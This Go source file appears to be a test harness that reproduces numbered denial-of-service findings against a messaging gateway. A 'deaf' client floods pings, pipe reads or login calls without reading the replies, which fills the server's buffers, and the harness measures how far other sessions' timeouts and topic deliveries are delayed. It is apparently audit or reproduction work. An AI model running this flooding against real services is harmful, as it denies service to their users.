package main

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"nexus/pkg/client"
)

// unread is how many pings an attacker sends without reading their answers, to fill what the gateway holds for it.
const unread = 45_000

// long is an id that makes an answer longer.
var long = strings.Repeat("x", 200)

// deaf calls on connections that it never reads, and on a new one as soon as one is ended, until ctx ends: first until what the gateway holds for it
// should be full, then what the attack is about, n a second. ready is closed once that begins on the first.
type deaf struct {
	n      int
	before func(context.Context, *socket) error // what is done on each connection while it is still read; fills it too
	fill   func(context.Context, *socket) error
	what   func(i int) []byte
}

func (t *target) deafly(ctx context.Context, ready chan<- struct{}, d deaf) (opened int) {
	first := sync.OnceFunc(func() { close(ready) })
	defer first()
	for ; ctx.Err() == nil; opened++ {
		if t.deafOnce(ctx, first, d) != nil {
			time.Sleep(100 * time.Millisecond)
		}
	}
	return opened
}

// byPings fills with the answers of pings, which is all that a stranger has.
func (t *target) byPings(ctx context.Context, s *socket) error {
	ping := request(long, "sys.ping", nil)
	for range t.of(unread) {
		if err := s.send(ctx, ping); err != nil {
			return err
		}
	}
	return nil
}

// byReads fills with what is read of one's own pipe: 10 MB in a second or two.
func (t *target) byReads(ctx context.Context, s *socket) error {
	a, err := s.call(ctx, "fill", "pipe.create", nil)
	if err != nil {
		return err
	}
	own := pipeid(a.Result)
	write := request("w", "pipe.write", object{"pipeid": own, "msg": strings.Repeat("x", 100_000)})
	read := request("r", "pipe.read", object{"pipeid": own, "max": 1})
	for range t.of(100) {
		if err := errors.Join(s.send(ctx, write), s.send(ctx, read)); err != nil {
			return err
		}
	}
	return nil
}

func (t *target) deafOnce(ctx context.Context, ready func(), d deaf) error {
	s, err := t.open(ctx)
	if err != nil {
		return err
	}
	defer s.CloseNow()
	if d.before != nil {
		if err := d.before(ctx, s); err != nil {
			return err
		}
	}
	if err := d.fill(ctx, s); err != nil {
		return err
	}
	ready()
	tick := time.NewTicker(time.Second / time.Duration(d.n))
	defer tick.Stop()
	for i := 0; ; i++ {
		select {
		case <-tick.C:
			if err := s.send(ctx, d.what(i)); err != nil {
				return err
			}
		case <-ctx.Done():
			return nil
		}
	}
}

// deadlines is finding 2, by a stranger: logins by a method whose answers cannot be delivered.
func deadlines(ctx context.Context, t *target) (got, error) {
	return t.late(ctx, deaf{n: 60, fill: t.byPings, what: func(int) []byte { return request(long, "sys.login", object{"method": "evil", "user": "x"}) }})
}

// pushersDeadlines is finding 2 by somebody who has logged in, and pushes tasks that end by time-out.
func pushersDeadlines(ctx context.Context, t *target) (got, error) {
	root, err := t.root(ctx)
	if err != nil {
		return got{}, err
	}
	defer root.Close()
	m, err := t.make(ctx, root, tags{"slow": {"@task.push": true}})
	if err != nil {
		return got{}, err
	}
	login := func(ctx context.Context, s *socket) error {
		_, err := s.call(ctx, "login", "sys.login", object{"user": m.user, "pass": m.pass})
		return err
	}
	return t.late(ctx, deaf{n: 60, before: login, fill: t.byReads, what: func(i int) []byte {
		return request(long, "task.push", object{"method": "slow.down", "params": nil, "timeout": 1 + i%5})
	}})
}

// late measures how late another session's time-outs are answered while a deaf attacker is at work.
func (t *target) late(ctx context.Context, d deaf) (got, error) {
	root, err := t.root(ctx)
	if err != nil {
		return got{}, err
	}
	defer root.Close()
	ctx, stop := context.WithCancel(ctx)
	defer stop()
	ready, opened := make(chan struct{}), make(chan int, 1)
	go func() { opened <- t.deafly(ctx, ready, d) }()
	select {
	case <-ready:
	case <-time.After(t.lasting(30 * time.Second)):
	}
	const patience = 70 * time.Second
	var latest time.Duration
	var mu sync.Mutex
	var all sync.WaitGroup
	var failed error
	for i := range 4 {
		all.Go(func() {
			time.Sleep(t.lasting(time.Duration(i) * 7 * time.Second))
			began, after := time.Now(), t.lasting(20*time.Second)
			calling, done := context.WithTimeout(ctx, after+patience)
			defer done()
			err := root.Call(calling, "task.push", object{"method": "victim.waits", "params": nil, "timeout": after.Seconds()}, nil)
			mu.Lock()
			defer mu.Unlock()
			if !client.IsCode(err, client.CodeTimeout) && !errors.Is(err, context.DeadlineExceeded) {
				failed = err
			}
			latest = max(latest, time.Since(began)-after)
		})
	}
	all.Wait()
	stop()
	return got{value: latest.Seconds(), note: fmt.Sprintf("the attacker needed %d connections", <-opened)}, failed
}

// subscriber is finding 3: one of a topic's subscribers has reads of its pipes waiting and does not read
// their answers.
func subscriber(ctx context.Context, t *target) (got, error) {
	root, err := t.root(ctx)
	if err != nil {
		return got{}, err
	}
	defer root.Close()
	m, err := t.make(ctx, root, tags{"news": {"@topic.sub": true}})
	if err != nil {
		return got{}, err
	}
	if err := root.Call(ctx, "user.setMaxSessions", object{"user": m.user, "maxsessions": 0}, nil); err != nil {
		return got{}, err
	}
	ctx, stop := context.WithCancel(ctx)
	defer stop()

	var all arrivals
	others := t.of(99)
	for range others {
		c, err := t.login(ctx, "", m.user, m.pass)
		if err != nil {
			return got{}, err
		}
		defer c.Close()
		pipe, err := subscribed(ctx, c)
		if err != nil {
			return got{}, err
		}
		go all.read(ctx, c, pipe)
	}
	quiet, _, err := t.publish(ctx, root, &all, others)
	if err != nil {
		return got{}, err
	}
	ready, opened := make(chan struct{}), make(chan int, 1)
	var own atomic.Value // the pipes of the attacker's latest connection
	before := func(ctx context.Context, s *socket) error {
		if _, err := s.call(ctx, "login", "sys.login", object{"user": m.user, "pass": m.pass}); err != nil {
			return err
		}
		var pipes []string
		for range 5 {
			a, err := s.call(ctx, "create", "pipe.create", nil)
			if err != nil {
				return err
			}
			pipes = append(pipes, pipeid(a.Result))
			if _, err := s.call(ctx, "sub", "topic.sub", object{"pipeid": pipes[len(pipes)-1], "topic": "news"}); err != nil {
				return err
			}
		}
		own.Store(pipes)
		return nil
	}
	read := func(i int) []byte {
		pipes := own.Load().([]string)
		return request(long, "pipe.read", object{"pipeid": pipes[i%len(pipes)], "max": 1000})
	}
	go func() { opened <- t.deafly(ctx, ready, deaf{n: 100, before: before, fill: t.byReads, what: read}) }()
	select {
	case <-ready:
	case <-time.After(t.lasting(30 * time.Second)):
	}
	attacked, missing, err := t.publish(ctx, root, &all, others)
	if err != nil {
		return got{}, err
	}
	stop()
	middle := attacked[len(attacked)/2]
	return got{value: middle.Seconds() / quiet[len(quiet)/2].Seconds(), note: fmt.Sprintf(
		"half of them within %v, and %v before; the slowest took %v, %d did not come in 30 s; the attacker needed %d connections", middle.Round(100*time.Microsecond),
		quiet[len(quiet)/2].Round(100*time.Microsecond), attacked[len(attacked)-1].Round(time.Millisecond), missing, <-opened)}, nil
}

// publish publishes for some seconds, and returns how long each publication took to each of the others, in order, and how many did not come.
func (t *target) publish(ctx context.Context, root *client.Client, all *arrivals, others int) (took []time.Duration, missing int, err error) {
	published := 0
	for began := time.Now(); published == 0 || time.Since(began) < t.lasting(8*time.Second); published++ {
		if err := root.Call(ctx, "topic.pub", object{"topic": "news", "msg": time.Now().UnixNano()}, nil); err != nil {
			return nil, 0, fmt.Errorf("topic.pub: %w", err)
		}
		time.Sleep(250 * time.Millisecond)
	}
	if took, missing = all.wait(published*others, 30*time.Second); len(took) == 0 {
		return nil, 0, errors.New("no publication arrived anywhere")
	}
	return took, missing, nil
}

// arrivals are the times that publications took.
type arrivals struct {
	mu   sync.Mutex
	took []time.Duration
}

// read reads a pipe until ctx ends.
func (a *arrivals) read(ctx context.Context, c *client.Client, pipe string) {
	for ctx.Err() == nil {
		var read struct {
			Msgs []struct{ Msg struct{ Msg int64 } }
		}
		if c.Call(ctx, "pipe.read", object{"pipeid": pipe, "max": 100}, &read) != nil {
			return
		}
		a.mu.Lock()
		for _, m := range read.Msgs {
			a.took = append(a.took, time.Since(time.Unix(0, m.Msg.Msg)))
		}
		a.mu.Unlock()
	}
}

// wait waits for so many arrivals, and takes them, in order of their time, and returns how many did not come.
func (a *arrivals) wait(n int, within time.Duration) (took []time.Duration, missing int) {
	for end := time.Now().Add(within); ; time.Sleep(50 * time.Millisecond) {
		a.mu.Lock()
		if len(a.took) >= n || time.Now().After(end) {
			defer a.mu.Unlock()
			took, a.took = a.took, nil
			slices.Sort(took)
			return took, n - len(took)
		}
		a.mu.Unlock()
	}
}

// subscribed makes a pipe that is subscribed to the topic.
func subscribed(ctx context.Context, c *client.Client) (string, error) {
	var pipe struct{ PipeID string }
	if err := c.Call(ctx, "pipe.create", nil, &pipe); err != nil {
		return "", err
	}
	return pipe.PipeID, c.Call(ctx, "topic.sub", object{"pipeid": pipe.PipeID, "topic": "news"}, nil)
}
